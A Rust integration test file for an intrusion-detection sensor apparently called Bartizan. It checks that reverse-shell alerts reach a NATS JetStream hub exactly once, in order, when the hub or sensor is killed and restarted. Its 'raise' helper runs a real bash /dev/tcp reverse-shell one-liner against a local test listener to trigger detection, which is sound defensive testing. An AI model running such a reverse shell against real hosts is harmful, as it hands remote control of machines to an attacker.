//! From a kernel hook to a real JetStream: alerts that are raised while the hub is down, killed and restarted, and while Bartizan itself is
//! killed, are there once each.

use std::collections::BTreeSet;
use std::net::SocketAddr;

use bartizan_tests::{Attacker, Group, Hub, Line, Sensor, peers, victim, wait_for};
use serde_json::Value;

/// A reverse shell to an attacker of its own; it ends at once, its alert stays.
fn raise(sensor: &Sensor, number: u32) -> SocketAddr {
    let attacker = Attacker::listen(Line::Tcp4, sensor.folder().path(), &format!("line-{number}"));
    let peer = attacker.address().expect("on the network");
    let line = format!("bash -i >& /dev/tcp/{}/{} 0>&1", peer.ip(), peer.port());
    let mut shell = Group::start(victim("/bin/bash", &sensor.folder().join("shells")).args(["-c", &line]));
    let mut session = attacker.accept();
    session.say_exit();
    shell.wait();
    peer
}

/// Every alert that is stored is in the hub's stream, once, with the same content and in its order.
#[track_caller]
fn assert_complete(sensor: &mut Sensor, hub: &Hub, raised: &[SocketAddr]) {
    sensor.settle();
    let own = sensor.alerts_json();
    let id = |alert: &Value| format!("{}/{}", alert["id"].as_str().unwrap_or_default(), alert["revision"]);
    let wanted: Vec<String> = own.iter().map(id).collect();
    let messages = wait_for("every alert in the hub", || {
        let messages = hub.messages("ALERTS");
        let there: BTreeSet<&String> = messages.iter().map(|(id, _)| id).collect();
        wanted.iter().all(|id| there.contains(id)).then_some(messages)
    });
    let got: Vec<&String> = messages.iter().map(|(id, _)| id).collect();
    assert_eq!(got, wanted.iter().collect::<Vec<_>>(), "each once, in their order");
    for ((_, payload), alert) in messages.iter().zip(&own) {
        assert_eq!(payload, alert, "the hub has what `bartizan alerts --json` prints");
    }
    for peer in raised {
        assert_eq!(own.iter().filter(|alert| peers(alert).contains(peer)).count(), 1, "{peer}");
    }
}

fn hub_outlives_everything(current: bool) {
    let place = bartizan_tests::Folder::new();
    let mut hub = Hub::new(place.path(), current);
    let config = format!(
        "[[forward]]\nname = \"hub\"\ntype = \"nats\"\naddress = \"{}\"\nstream = \"ALERTS\"\ncreate_stream = true\nretry_min = \"100ms\"\nretry_max = \"500ms\"\n",
        hub.address()
    );
    let mut sensor = Sensor::with().config(&config).start();
    // Stored first: nobody takes them yet.
    let mut raised = vec![raise(&sensor, 0), raise(&sensor, 1)];
    sensor.settle();
    assert_eq!(sensor.status().1["sinks"][0]["confirmed"], 0);
    hub.start();
    assert_complete(&mut sensor, &hub, &raised);
    for round in 0..3 {
        hub.kill9();
        raised.push(raise(&sensor, 10 + round));
        if round == 1 {
            sensor.crash_and_restart();
        }
        hub.start();
        raised.push(raise(&sensor, 20 + round));
        if round == 2 {
            sensor.crash_and_restart();
        }
    }
    assert_complete(&mut sensor, &hub, &raised);
}

#[test]
fn debian_s_hub_has_every_alert_once_whatever_is_killed() {
    hub_outlives_everything(false);
}

#[test]
fn a_current_hub_has_every_alert_once_whatever_is_killed() {
    hub_outlives_everything(true);
}
